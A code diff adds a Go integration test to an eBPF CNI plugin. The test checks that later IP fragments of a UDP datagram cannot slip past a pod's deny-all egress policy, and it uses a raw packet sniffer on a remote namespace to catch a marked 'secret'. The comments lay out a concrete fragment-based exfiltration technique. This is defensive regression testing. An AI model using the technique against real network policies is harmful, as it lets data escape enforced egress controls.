@@ -4,8 +4,15 @@
 package integration
 
 import (
+	"bytes"
+	"fmt"
 	"net"
 	"testing"
+	"time"
+
+	"github.com/containernetworking/plugins/pkg/ns"
+	"github.com/vishvananda/netlink"
+	"golang.org/x/sys/unix"
 
 	"github.com/ebpf-cni/ebpf-cni/pkg/policy"
 )
@@ -56,4 +63,104 @@ func TestAttack5EgressDeniedReachesNodeThroughService(t *testing.T) {
 		t.Fatal(err)
 	}
 	t.Run("isolated", check)
+}
+
+// sniff opens an AF_PACKET socket on link name of netns: it sees every
+// frame, fragments included, before any reassembly.
+func sniff(t *testing.T, netns ns.NetNS, name string) int {
+	t.Helper()
+	var fd int
+	must(t, netns.Do(func(ns.NetNS) error {
+		l, err := netlink.LinkByName(name)
+		if err != nil {
+			return err
+		}
+		proto := int(htons(unix.ETH_P_ALL))
+		if fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, proto); err != nil {
+			return err
+		}
+		return unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: uint16(proto), Ifindex: l.Attrs().Index})
+	}))
+	t.Cleanup(func() { unix.Close(fd) })
+	tv := unix.NsecToTimeval(int64(300 * time.Millisecond))
+	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
+		t.Fatal(err)
+	}
+	return fd
+}
+
+// TestAttack5LaterFragmentsOfDeniedEgressLeaveNode: a pod whose egress
+// allows nothing sends a datagram too big for one frame to a host off the
+// node, its secret in the tail (the later fragments). from_container
+// defers the first fragment's denial (the destination routes out of the
+// uplink) and, allowing it for now, notes the datagram in
+// cni_pol_frag_parts (policy_judge's allow: label). to_uplink judges the
+// first fragment again and drops it, but the later fragments carry no
+// ports and pass on that note (pol_frag_known, same key: the pod's
+// ifindex, id, addresses): the tail of every denied datagram goes on the
+// wire, where a sniffer on the peer reads it.
+func TestAttack5LaterFragmentsOfDeniedEgressLeaveNode(t *testing.T) {
+	t.Parallel()
+	h := newHPEnv(t)
+	h.Extra["networkPolicy"] = true
+	for _, fam := range []int{4, 6} {
+		routeVia(t, h.Node, "", remoteIP[fam])
+	}
+	a := h.NewPod()
+	h.CleanupDel(a, "a")
+	h.Add(a, "a")
+	_, idx := h.HostVeth("a")
+	if err := h.Maps().Policy().Writer().Apply(uint32(idx), policy.Endpoint{Egress: isolated()}); err != nil {
+		t.Fatal(err)
+	}
+	fd := sniff(t, h.remote, "eth0")
+	send := func(fam int, b []byte) {
+		must(t, a.Do(func(ns.NetNS) error {
+			c, err := net.Dial("udp", hp(remoteIP[fam], 7001))
+			if err != nil {
+				return err
+			}
+			defer c.Close()
+			_, err = c.Write(b)
+			return err
+		}))
+	}
+	for _, fam := range []int{4, 6} {
+		// Control: a datagram in one frame is denied (the sniffer works,
+		// the policy holds).
+		small := fmt.Sprintf("small-datagram-v%d", fam)
+		send(fam, []byte(small))
+		if rawSaw(fd, []byte(small), 700*time.Millisecond) {
+			t.Fatalf("IPv%d: a's small datagram left the node: egress not denied at all", fam)
+		}
+		head := fmt.Sprintf("head-of-a-big-datagram-v%d", fam)
+		secret := fmt.Sprintf("exfiltrated-in-a-later-fragment-v%d", fam)
+		b := bytes.Repeat([]byte{'x'}, 3000)
+		copy(b, head)
+		copy(b[2900:], secret)
+		send(fam, b)
+		sawHead, sawTail := sniffed(fd, [][]byte{[]byte(head), []byte(secret)}, 1500*time.Millisecond)
+		if sawHead {
+			t.Errorf("IPv%d: the first fragment of a datagram a's egress denies left the node", fam)
+		}
+		if sawTail {
+			t.Errorf("IPv%d: the later fragments of a datagram a's egress denies left the node (its first was dropped): a pod denied all egress sends bytes to any host", fam)
+		}
+	}
+}
+
+// sniffed reads fd for d and tells which of two markers came.
+func sniffed(fd int, m [][]byte, d time.Duration) (bool, bool) {
+	var saw [2]bool
+	buf := make([]byte, 65536)
+	for end := time.Now().Add(d); time.Now().Before(end); {
+		n, _, err := unix.Recvfrom(fd, buf, 0)
+		if err != nil {
+			continue
+		}
+		for i := range saw {
+			saw[i] = saw[i] || bytes.Contains(buf[:n], m[i])
+		}
+	}
+	return saw[0], saw[1]
 }
